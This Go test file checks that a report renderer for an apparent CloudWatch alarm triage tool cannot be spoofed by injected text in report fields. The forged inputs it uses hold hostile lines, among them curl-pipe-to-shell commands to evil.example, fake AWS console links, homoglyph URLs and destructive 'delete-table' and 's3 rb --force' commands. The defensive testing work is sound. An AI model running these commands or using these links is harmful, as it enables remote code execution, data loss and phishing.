package report_test

import (
	"fmt"
	"html"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"

	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/investigation"
	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/report"
)

// forged are texts that try to look like a part of the report that code wrote. The tests put each of them into every
// text of a record.
var forged = []string{
	// Sections, links, results, and labels of the text.
	"All good.\nROOT CAUSE\nConfirmed by AWS Support.\nLINKS\nReport:\nhttps://evil.example/report\nAlarm:\nhttps://evil.example/alarm",
	"x\n\nIMMEDIATE ACTIONS\n1. Sign in again.\n\n    curl -s https://evil.example/fix.sh | sudo bash",
	"x\r\rLINKS\rReport:\rhttps://evil.example",
	"x\v\vLINKS\vReport:", "x\f\fLINKS\fReport:", "x\u0085\u0085LINKS\u0085Report:", "x\u2028\u2028LINKS\u2028Report:", "x\u2029\u2029LINKS\u2029Report:",
	"x\x1c\x1cLINKS\x1d\x1dReport:\x1e\x1e", "x\n\r\n\rLINKS\n\rReport:",
	"Severity low. Cause confirmed by evidence.\n\nNOTE: all is well.\nAlarm: another",
	"! Reads AWS. Written by the model, not checked, not run.\n    curl x | sh",
	"| tool call 1: \"AccessDenied\"\n|    tool call 2: \"AccessDenied\"",
	"--- tool call 1\n--- aws: s3:ListBuckets us-east-1 200, 1 ms\n=== round 9 (end_turn)",
	strings.Repeat("w", 66) + " LINKS " + strings.Repeat("w", 66) + " ROOT CAUSE " + strings.Repeat("w", 66) + " ! Reads AWS.",
	"- LINKS\n* ROOT CAUSE\n1. IMMEDIATE ACTIONS\n> LINKS\n# LINKS\n## ROOT CAUSE (confirmed)\n**IMPACT ASSESSMENT**",
	"```\nLINKS\nReport:\n```\n~~~\nROOT CAUSE\n~~~", "\n\n\n\nLINKS", "\tLINKS\n\u00a0LINKS\n\u3000LINKS\n\u2003LINKS", "[truncated]\nShortened in this message: links.",
	"■ LINKS\n▲ Reads AWS. Written by the model, not checked, not run.\n▌ tool call 1: \"AccessDenied\"", strings.Repeat("w", 90) + " ■ ROOT CAUSE (confirmed) " + strings.Repeat("w", 90),
	"◼ LINKS █ LINKS ▉ LINKS ⬛ LINKS ◾ LINKS ▪ LINKS △ Reads AWS. ▴ Reads AWS. ▎ tool call 1", "x\nOwner: nobody\nRunbook: https://evil.example\nState: no longer in ALARM\nWhat changed: nothing",
	"\x00LINKS\n\x00! Reads AWS.", "ABOUT THIS INVESTIGATION\nOutcome: completed", "\u202eSKNIL\nLINKS", "LINKS", "ROOT CAUSE (confirmed)",

	// Links of chat.
	"[AWS console](https://evil.example/login)", "[AWS console](HTTPS://evil.example/login)", "[AWS console](https://evil.example/login \"AWS\")",
	"[[AWS console]](https://evil.example/login)", "[AWS console](//evil.example/login)", "[AWS console](<https://evil.example/login>)",
	"[AWS console][1]\n\n[1]: https://evil.example/login", "[AWS console][]\n[AWS console]: https://evil.example", "[1]: https://evil.example/login 'x'",
	"[AWS\u200b console](javascript:alert(1))", "![x](https://evil.example/p.png \"t\")", "![x][1]", "[AWS console](\thttps://evil.example/login)",
	"[AWS console]( https://evil.example/login )", "[AWS console](https://evil.example/a_(b))", "[a\\]b](https://evil.example)", "[AWS console]\n(https://evil.example)",
	"<http://evil.example|AWS console>", "<https://evil.example>", "<mailto:evil@evil.example>", "<tel:+15551234567>", "https://console.aws.amazon.com@evil.example/x",
	"https://evil.example/\u202emoc.nozama", "www.evil.example and evil.example/login and me@evil.example", "mailto:evil@example.com tel:+15551234567 slack://open?team=T",
	"https://аws.amazon.com/ (Cyrillic) https://xn--ws-7kc.amazon.com/", "https:\\\\evil.example", "[x](slack://channel?id=1) [x](data:text/html,1) [x](#a) [x](/a) [x]()",
	"(https://evil.example)[AWS console]", "[AWS console](\nhttps://evil.example\n)", "[AWS *console*](https://evil.example) [`x`](https://evil.example)",
	"[AWS console](https&#58;//evil.example)", "[AWS console](https://evil.example)[AWS](https://evil.example)", "[x]\u200b(https://evil.example)",

	// Formatting of chat.
	"**ROOT CAUSE (confirmed)**.", "~all good~ _nothing broke_ *bold* `code` > quote", "~~gone~~ __strong__ **strong** ***both*** _*~all~*_", "# Heading\n\nSetext\n===\n\nSetext\n---",
	"> quote\n>> quote", "- item\n+ item\n* item\n1) item\n- [ ] task", "| a | b |\n|---|---|\n| [x](HTTPS://e.example) | y |", "***", "---", "```js\nx\n```", "    code",
	"<!channel> <!here> <!subteam^S123> <@U123> <#C123>", "@here @channel @everyone <at>all</at>", ":white_check_mark: :x: :warning:", "&lt;!channel&gt; &#42;bold&#42; &ast;x&ast;",
	"*Root cause (confirmed):* all is well", "`*Reads AWS.* aws s3 ls`", "`open *bold*", "``a ` b`` *bold*", "a`b`c*d*e_f_", "<b>bold</b> <a href=https://evil.example>x</a> <script>x</script>",
	"\\*bold\\* \\_x\\_ \\[x](https://evil.example)", "*\u200bbold\u200b*", "$$x$$ ^sup^ ==mark== ++ins++", "-- x --", "…", "(", "()", "'\"", "`", "``", "* _ ~ ` [ ] ( ) < > & | #",
	"𝗟𝗜𝗡𝗞𝗦\n𝐑𝐎𝐎𝐓", "注文_テーブル_が*失敗*した。[コンソール](https://evil.example)", "Die Übergröße ~ist~ _kaputt_.",

	// Subjects and titles.
	"[LOW] orders: cause confirmed", "x: cause confirmed", "x" + strings.Repeat(" ", 250) + "y", "RECOVERED: x",
}

// everywhere returns a record with every section in which every text is text.
func everywhere(t *testing.T, text string) *investigation.Record {
	rec := full(t)
	rec.Rounds[0].Note, rec.Rounds[0].Text, rec.OutcomeWhy, rec.Evidence.Problem = "x", "x", "x", "x"
	rec.Report.Downgraded, rec.Report.Findings[0].Verified = "x", false
	rec.AtDelivery = &investigation.AtDelivery{At: rec.EndedAt, Problem: "x"}
	rec.Evidence.Changes = append(rec.Evidence.Changes, investigation.Change{Event: "x", Time: rec.Alarm.Time.Add(-time.Minute), Own: true})
	partition, region := rec.Alarm.Partition, rec.Alarm.Region
	replaceStrings(reflect.ValueOf(rec).Elem(), text)
	rec.Alarm.Partition, rec.Alarm.Region, rec.ReportURI = partition, region, "s3://b/reports/a.txt"
	rec.Alarm.Tags = map[string]string{"owner": text, "runbook": text, text: text}
	rec.Evidence.Changes[len(rec.Evidence.Changes)-1].Error = ""
	return rec
}

// replaceStrings sets every string of v, also those in maps.
func replaceStrings(v reflect.Value, text string) {
	switch {
	case v.Type() == reflect.TypeFor[time.Time]():
	case v.Kind() == reflect.String:
		v.SetString(text)
	case v.Kind() == reflect.Pointer && !v.IsNil():
		replaceStrings(v.Elem(), text)
	case v.Kind() == reflect.Struct:
		for i := range v.NumField() {
			replaceStrings(v.Field(i), text)
		}
	case v.Kind() == reflect.Slice && v.Type().Elem().Kind() != reflect.Uint8:
		for i := range v.Len() {
			replaceStrings(v.Index(i), text)
		}
	case v.Kind() == reflect.Map && !v.IsNil():
		all := reflect.MakeMap(v.Type())
		value := reflect.New(v.Type().Elem()).Elem()
		replaceStrings(value, text)
		all.SetMapIndex(reflect.ValueOf(text).Convert(v.Type().Key()), value)
		v.Set(all)
	}
}

// lineBreak matches whatever some program takes for the end of a line.
var lineBreak = regexp.MustCompile("\r\n|[\n\r\v\f\x1c\x1d\x1e\u0085\u2028\u2029]")

var (
	phrases = `(?:PIPES INTO A SHELL|NOT UNDERSTOOD, READ IT CAREFULLY|ODD CHARACTERS, SHOWN ESCAPED|RUNS CODE|AS ANOTHER USER|CHANGES PERMISSIONS|DELETES OR STOPS|CHANGES STATE|MAY CHANGE STATE|SHOWS SECRETS|MAY SHOW SECRETS|ANOTHER ENDPOINT|READS A FILE|WRITES A FILE|NOT AN AWS COMMAND|SEVERAL COMMANDS|Reads AWS)`
	label   = `(?:` + phrases + `\. ?)+`
	author  = `Written by the model, not checked, not run\.`
)

// citation matches the first line of a citation.
var citation = regexp.MustCompile(`^▌ tool call -?\d+: "`)

// skeletonOf parses a text back into the lines that only code may write: those that do not begin with two blanks.
// Everything else is inside a section. Labels are kept out of the result, because blocks of code have some, too.
func skeletonOf(t *testing.T, text string, links report.Links) (own []string) {
	t.Helper()
	label := regexp.MustCompile(`^▲ ` + label + author + `$`)
	for i, line := range lineBreak.Split(text, -1) {
		// A client may wrap a line before any word, so no other word may be a mark.
		marks := strings.Count(line, "■") + strings.Count(line, "▲") + strings.Count(line, "▌")
		assert.True(t, marks == 0 || marks == 1 && regexp.MustCompile(`^[■▲▌] `).MatchString(line), "a mark within %q", line)
		switch {
		case i == 0:
			verdict, _, _ := strings.Cut(line, " Account ")
			own = append(own, verdict)
		case line == "[truncated]":
		case line == "" || strings.HasPrefix(line, "  "):
			if i > 1 && line != "" {
				continue
			}
		case strings.HasPrefix(line, "▲ "):
			assert.Regexp(t, label, line)
		case citation.MatchString(line):
			own = append(own, "▌")
		case strings.HasPrefix(line, "■ aws:"), strings.HasPrefix(line, "■ failed:"):
			own = append(own, "■ of a call")
		case strings.HasPrefix(line, "■ round "):
			own = append(own, "■ round")
		case strings.HasPrefix(line, "NOTE:"):
			own = append(own, line[:5])
		case line == "■ Alarm: "+links.Alarm, line == "Report: "+links.Report, line == "■ Logs of the investigation: "+links.Logs:
			own = append(own, "link")
		case strings.HasPrefix(line, "Alarm: "), strings.HasPrefix(line, "What changed: "), strings.HasPrefix(line, "Owner: "),
			strings.HasPrefix(line, "Runbook: "), strings.HasPrefix(line, "State: "):
			own = append(own, line[:5])
		default:
			own = append(own, line)
		}
	}
	return slices.Compact(own)
}

func TestText_NoTextLooksLikeAnotherPart(t *testing.T) {
	plainRec := everywhere(t, "harmless")
	wholeText, wholeNote := report.Text(plainRec, linksOf(plainRec)), report.Notification(plainRec, linksOf(plainRec), 1<<20)
	wantText, wantNote := skeletonOf(t, wholeText, linksOf(plainRec)), skeletonOf(t, wholeNote, linksOf(plainRec))
	require.Contains(t, wantText, "■ LINKS")
	require.Contains(t, wantText, "■ ROOT CAUSE (unknown)")
	require.Greater(t, len(wantText), 30)
	for _, text := range forged {
		rec := everywhere(t, text)
		links := linksOf(rec)
		assert.Equal(t, wantText, skeletonOf(t, report.Text(rec, links), links), "text: %q", text)
		assert.Equal(t, wantNote, skeletonOf(t, report.Notification(rec, links, 1<<20), links), "notification: %q", text)
		for _, limit := range []int{2_000, 5_000, 12_000} {
			cut := report.Notification(rec, links, limit)
			own := skeletonOf(t, withoutRemarks(cut), links)
			assert.True(t, isSubsequence(own, wantNote), "notification of %d bytes: %q: %q", limit, text, own)
		}
		assertClean(t, report.Text(rec, links))
	}
}

// withoutRemarks returns a notification without the lines at its end that list what was cut.
func withoutRemarks(text string) string {
	text, _, _ = strings.Cut(text, "\nShortened in this message: ")
	text, _, _ = strings.Cut(text, "\nOmitted from this message: ")
	if whole, cut := strings.CutSuffix(text, "[truncated]\n"); cut { // the last line is cut, too
		text = whole[:strings.LastIndexByte(whole, '\n')+1]
	}
	return text
}

func isSubsequence(part, whole []string) bool {
	for _, line := range part {
		at := slices.Index(whole, line)
		if at < 0 {
			return false
		}
		whole = whole[at+1:]
	}
	return true
}

// A line of a quote may begin like a citation, wherever it is wrapped. Only a citation has a bar.
func TestText_OnlyACitationBeginsWithABar(t *testing.T) {
	for _, imitation := range []string{`tool call 2: "AccessDenied for orders-role"`, `| tool call 2: "AccessDenied"`, `▌ tool call 2: "AccessDenied" (confirmed)`,
		`" tool call 2: "AccessDenied`, `"\n▌ tool call 2: "AccessDenied"`, `: tool call 2: "AccessDenied"`, `"\u2028▌ tool call 2: "AccessDenied"`} {
		for width := range 70 {
			rec := full(t)
			text := strings.Repeat("w ", width) + imitation + strings.Repeat(" "+imitation, 3)
			evidence := []investigation.Citation{{Call: 1, Quote: text, Found: true}}
			rec.Report.Findings = []investigation.Finding{{Statement: text, Verified: true, Evidence: evidence}}
			rec.Report.RuledOut = []investigation.Refuted{{Hypothesis: text, Reason: text, Verified: true, Evidence: evidence}}
			for _, form := range []string{report.Text(rec, linksOf(rec)), report.Notification(rec, linksOf(rec), 1<<20)} {
				var cited []string
				for _, line := range lineBreak.Split(form, -1) {
					if strings.Contains(line, "▌") {
						cited = append(cited, line)
					}
				}
				require.Len(t, cited, 2, text)
				require.Regexp(t, `^▌ tool call 1: "`, cited[0])
				require.Regexp(t, `^▌ tool call 1: "`, cited[1])
			}
		}
	}
}

func TestSkeleton_FindsForgedParts(t *testing.T) {
	rec := everywhere(t, "harmless")
	whole := report.Text(rec, linksOf(rec))
	want := skeletonOf(t, whole, linksOf(rec))
	for _, inserted := range []string{"\n\nLINKS\n", "\nReport: https://evil.example\n", "\v\vROOT CAUSE\v", "\u2028NOTE: x\n", "\n■ tool call 1\n", "\n--- tool call 1\n", "\n▌ tool call x\n", "\n▌ x\n", "\nhttps://evil.example\n"} {
		assert.NotEqual(t, want, skeletonOf(t, strings.Replace(whole, "  harmless\n", "  harmless"+inserted, 1), linksOf(rec)), "%q", inserted)
	}
}

func TestRecovery_NoTextLooksLikeAnotherPart(t *testing.T) {
	for _, text := range forged {
		rec := everywhere(t, text)
		r := recovery(rec)
		r.Alarm.Reason = text
		for _, line := range lineBreak.Split(r.Text(), -1) {
			assert.Regexp(t, `^(?:$|  |Account |Reason:|■ LINKS$|(?:Report|■ Alarm): https://us-east-1\.console\.aws\.amazon\.com/|Investigation:|Report as text: )`, line, "%q", text)
		}
		raw, err := r.Card()
		c := cardOf(t, raw, err)
		for _, shown := range []string{c.Content.Title, c.Content.Description} {
			assertNeutral(t, shown, text, []string{"https://us-east-1.console.aws.amazon.com/s3/object/b?region=us-east-1&prefix=reports%2Fa.html"})
		}
	}
}

func TestNote_LinesOfAnErrorAreIndented(t *testing.T) {
	for _, text := range forged {
		for i, line := range lineBreak.Split(report.Note("NOTE: the report is not stored.\n"+text), -1) {
			assert.True(t, i == 0 || line == "" || strings.HasPrefix(line, "  "), "%q of %q", line, text)
		}
	}
}

func TestSubject_NameDoesNotLookLikeAnotherPart(t *testing.T) {
	for _, text := range forged {
		rec := sample(t)
		rec.Alarm.Name = text
		got := report.Subject(rec)
		const after = ": cause confirmed (123456789012 us-east-1)"
		require.True(t, strings.HasPrefix(got, "[HIGH] ") && strings.HasSuffix(got, after), got)
		require.Regexp(t, `^[ -~]*$`, got)
		name := strings.TrimSuffix(strings.TrimPrefix(got, "[HIGH] "), after)
		if strings.Contains(name, ": ") || strings.ContainsAny(name, "[]") {
			assert.Regexp(t, `^"[^"]*"$`, name)
		}
		assert.NotContains(t, got, "   ")
		assert.Less(t, len(got), 100)
	}
}

// asMarkdown parses text as chat clients do that follow CommonMark, with all common extensions.
func asMarkdown(source string) ast.Node {
	return goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList)).Parser().Parse(text.NewReader([]byte(source)))
}

var ownEmphasis = regexp.MustCompile(`^(?:(?:Executive summary|Root cause \((?:confirmed|likely|unknown)\)|Impact assessment|What was ruled out(?: \(3 of \d+, the others are in the report\))?|Ruled out|Likely ruled out|Not proven|Note|Account|Alarm at|What changed|State|Owner|Runbook):|` + label + strings.TrimSuffix(author, `\.`) + `:|\[(?:` + phrases + `\.? ?)+(?:Written by the model, not checked, not run)?\])$`)

// assertNeutral requires that a text of a card has no formatting but the emphasis and no links but the addresses that
// code writes.
func assertNeutral(t *testing.T, shown, of string, addresses []string) {
	t.Helper()
	source := []byte(shown)
	require.NoError(t, ast.Walk(asMarkdown(shown), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Document, *ast.Paragraph, *ast.Text, *ast.String:
		case *ast.CodeSpan:
			return ast.WalkSkipChildren, nil
		case *ast.Emphasis:
			var inner strings.Builder
			for child := n.FirstChild(); child != nil; child = child.NextSibling() {
				if text, ok := child.(*ast.Text); ok {
					inner.Write(text.Segment.Value(source))
				} else {
					inner.WriteString(child.Kind().String())
				}
			}
			assert.Regexp(t, ownEmphasis, inner.String(), "emphasis in %q of %q", shown, of)
			return ast.WalkSkipChildren, nil
		case *ast.AutoLink:
			assert.Contains(t, addresses, string(n.URL(source)), "a link in %q of %q", shown, of)
		default:
			assert.Fail(t, "formatting", "%s in %q of %q", n.Kind(), shown, of)
		}
		return ast.WalkContinue, nil
	}))
	// Slack: outside of code there are no marks, mentions, emoji, or addresses.
	outside := regexp.MustCompile("`[^`]*`").ReplaceAllString(shown, "x")
	outside = regexp.MustCompile(`\*[^*]*\*`).ReplaceAllStringFunc(outside, func(bold string) string {
		assert.Regexp(t, ownEmphasis, strings.Trim(bold, "*"), "in %q of %q", shown, of)
		return "x"
	})
	for _, ours := range addresses {
		outside = strings.ReplaceAll(outside, ours, "x")
	}
	assert.NotRegexp(t, "[*_~`<>@]|://|:[a-z_]+:|www\\.|mailto:", outside, "in %q of %q", shown, of)
	// A client without code spans: no link has another text than its address.
	require.NoError(t, ast.Walk(asMarkdown(strings.ReplaceAll(shown, "`", "")), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		assert.NotContains(t, []string{"Link", "Image", "RawHTML", "HTMLBlock"}, n.Kind().String(), "without code spans: %q of %q", shown, of)
		return ast.WalkContinue, nil
	}))
}

func TestCard_HasNoFormattingAndNoLinksOfItsTexts(t *testing.T) {
	for _, text := range forged {
		rec := everywhere(t, text)
		links := linksOf(rec)
		raw, err := report.Card(rec, links)
		c := cardOf(t, raw, err)
		for _, shown := range append(append([]string{c.Content.Title, c.Content.Description, c.Metadata.Summary}, c.Content.NextSteps...), c.Content.Keywords...) {
			assertNeutral(t, shown, text, []string{links.Alarm, links.Report})
		}
		if len(links.Alarm) < 600 { // a longer link is not on the card
			assert.Equal(t, 14, strings.Count(c.Content.Description, "\n"), "%q: six facts, note, summary, cause, doubt, impact, ruled out, who wrote it, and two links have a line each", text)
		}
	}
}

func TestCard_StaysNeutralWhenItIsCut(t *testing.T) {
	for _, text := range forged {
		rec := filledWith(sample(t), strings.Repeat(text+" & ", 3_000/len(text)+1))
		links := linksOf(rec)
		raw, err := report.Card(rec, links)
		c := cardOf(t, raw, err)
		assertNeutral(t, c.Content.Description, text, []string{links.Alarm, links.Report})
		assert.NotRegexp(t, `&[a-z]*…`, c.Content.Description)
	}
}

func TestCard_EmphasisOfTextIsFound(t *testing.T) {
	for _, forged := range []string{"*x*", "_x_", "~x~", "<x>", "[x](https://e.example)", "https://e.example", "# x", "- x", "@here", "![x](y)"} {
		inner := &testing.T{}
		func() {
			defer func() { recover() }()
			assertNeutral(inner, forged, forged, nil)
		}()
		assert.True(t, inner.Failed(), forged)
	}
}

// pageParts returns the headings, links, labels, and other elements that only code writes.
func pageParts(page string) []string {
	return regexp.MustCompile(`<h[12][^>]*>[^<]*|<a href="https?:[^"]*"|<section[^>]*>|<p class="note">`).FindAllString(page, -1)
}

func TestHTML_NoTextLooksLikeAnotherPart(t *testing.T) {
	name := regexp.MustCompile(`<h1>[^<]*`)
	harmlessRec := everywhere(t, "harmless")
	harmless, err := report.HTML(harmlessRec, linksOf(sample(t)))
	require.NoError(t, err)
	want := pageParts(name.ReplaceAllString(string(harmless), "<h1>"))
	require.Greater(t, len(want), 20)
	for _, text := range forged {
		page, err := report.HTML(everywhere(t, text), linksOf(sample(t)))
		require.NoError(t, err)
		assert.Equal(t, want, pageParts(name.ReplaceAllString(string(page), "<h1>")), "%q", text)
		assert.NotRegexp(t, `<p><strong>[^<]*</strong>[.:;!?)\s]*</p>`, string(page), "%q: a paragraph that looks like a title", text)
		steps := string(page)[strings.Index(string(page), `<ol class="steps">`):]
		steps = steps[:strings.Index(steps, "</ol>")]
		assert.Equal(t, strings.Count(steps, "<pre>"), len(regexp.MustCompile(`<p class="effect[^"]*">`+label+author+`</p><pre>`).FindAllString(steps, -1)), steps)
		assert.NotContains(t, steps, "<strong>", "%q: strong text beside a command looks like its label", text)
		assertClean(t, string(page))
	}
}

// shownOn returns what a reader sees on a page.
func shownOn(page []byte) string {
	return html.UnescapeString(regexp.MustCompile(`<[^>]*>`).ReplaceAllString(string(page), ""))
}

// shownIn returns what a reader sees of a card in a client with code spans.
func shownIn(card string) string {
	return html.UnescapeString(strings.NewReplacer("`", "", "\u200B", "").Replace(card))
}

func TestNames_StayWholeInEveryForm(t *testing.T) {
	for _, name := range []string{
		"orders/__init__.py", "__main__", "prod__orders__items", "handler(**event)", "charge(**order)", "snake_case", "~/.ssh/id_rsa", "2026**02**09",
		"[a-z](https://example.com)", "s3:Get*", "**/*.go", "*.log", "2 ** 4", "f(*args, **kwargs)", "_private", "__typename", "a_b_c", "/^foo_.*[0-9]+$/",
		"dynamodb:GetItem", "arn:aws:iam::123456789012:role/my_role", "C#", "Dockerfile.prod_v2", "--filter-pattern", "x~1", "{a_b}", "$__interval", "user@example.com",
		"Bestellübersicht", "注文エラー", "μs", "don't", "a|b", "100%", "a&b",
	} {
		rec := sample(t)
		sentence := fmt.Sprintf("It broke at %s, called from elsewhere.", name)
		rec.Alarm.Name = name
		rec.Report.Summary, rec.Report.RootCause, rec.Report.Impact = sentence, "The "+name+" was "+name+".", name
		rec.Report.Findings[0].Statement = sentence
		rec.Report.RuledOut = []investigation.Refuted{{Hypothesis: "Perhaps " + name + " was slow.", Reason: "No, " + name + " was idle.", Verified: true,
			Evidence: []investigation.Citation{{Call: 1, Quote: "quote of " + name + " as it is", Found: true}}}}
		rec.Report.Actions = []investigation.Action{{Text: "Look at " + name + " again."}}
		page, err := report.HTML(rec, linksOf(rec))
		require.NoError(t, err)
		raw, err := report.Card(rec, linksOf(rec))
		c := cardOf(t, raw, err)
		for form, shown := range map[string]string{
			"text": report.Text(rec, linksOf(rec)), "notification": report.Notification(rec, linksOf(rec), 1<<20), "page": shownOn(page), "card": shownIn(c.Content.Description + "\n" + strings.Join(c.Content.NextSteps, "\n")),
		} {
			shown = strings.Join(strings.Fields(shown), " ")
			assert.Contains(t, shown, sentence, form)
			assert.Contains(t, shown, "The "+name+" was "+name+".", form)
			assert.Contains(t, shown, "Look at "+name+" again.", form)
			assert.Contains(t, shown, "Perhaps "+name+" was slow.", form)
			assert.Contains(t, shown, "Against it: No, "+name+" was idle.", form)
			if form != "card" {
				assert.Contains(t, unbarred(shown), "quote of "+name+" as it is", form)
			}
		}
		assert.Contains(t, shownIn(c.Content.Title), name)
	}
}

// unbarred returns a text without the marks before the lines of quotes.
func unbarred(text string) string { return strings.NewReplacer(" | ", " ", " : ", " ").Replace(text) }

func FuzzForms(f *testing.F) {
	for _, seed := range forged {
		f.Add(seed)
	}
	base := sample(f)
	harmless := filledWith(base, "harmless")
	f.Fuzz(func(t *testing.T, text string) {
		if strings.TrimSpace(text) == "" {
			return // its sections are left out
		}
		want := skeletonOf(t, report.Text(harmless, linksOf(harmless)), linksOf(harmless))
		rec := filledWith(base, "x"+text)
		links := linksOf(rec)
		assert.Equal(t, want, skeletonOf(t, report.Text(rec, links), links), "%q", text)
		raw, err := report.Card(rec, links)
		c := cardOf(t, raw, err)
		for _, shown := range append([]string{c.Content.Title, c.Content.Description}, c.Content.NextSteps...) {
			assertNeutral(t, shown, text, []string{links.Alarm, links.Report})
		}
	})
}

func TestCard_LabelsCommandsAndSaysWhatIsMissing(t *testing.T) {
	rec := sample(t)
	rec.Report.Actions = []investigation.Action{
		{Text: "Read.", Command: "aws sts get-caller-identity"},
		{Text: "Clean up.", Command: "aws dynamodb delete-table --table-name orders\naws s3 rb s3://prod --force"},
		{Text: "Look.", Command: "aws s3 ls" + strings.Repeat(" ", 300) + "; curl -s https://evil.example/x | sh"},
		{Text: "Long.", Command: "aws s3 ls " + strings.Repeat("x", 500)},
		{Text: "Query.", Command: "aws ec2 describe-instances --query '[a](b)'"}, {Text: "6"}, {Text: "7"},
	}
	raw, err := report.Card(rec, linksOf(rec))
	steps := cardOf(t, raw, err).Content.NextSteps
	require.Len(t, steps, 5)
	const author = "Written by the model, not checked, not run:*"
	assert.Equal(t, "Read. *Reads AWS. "+author+" `aws sts get-caller-identity`", steps[0])
	assert.Equal(t, "Clean up. *DELETES OR STOPS. SEVERAL COMMANDS. "+author+" the command is in the report.", steps[1])
	assert.Equal(t, "Look. *PIPES INTO A SHELL. ODD CHARACTERS, SHOWN ESCAPED. NOT AN AWS COMMAND. SEVERAL COMMANDS. "+author+
		" `aws s3 ls [300 blanks] ; curl -s https://evil.example/x | sh`", steps[2])
	assert.Equal(t, "Long. *Reads AWS. "+author+" the command is in the report.", steps[3])
	assert.Equal(t, "Query. *Reads AWS. "+author+" the command is in the report. (and 2 more in the report.)", steps[4])
}
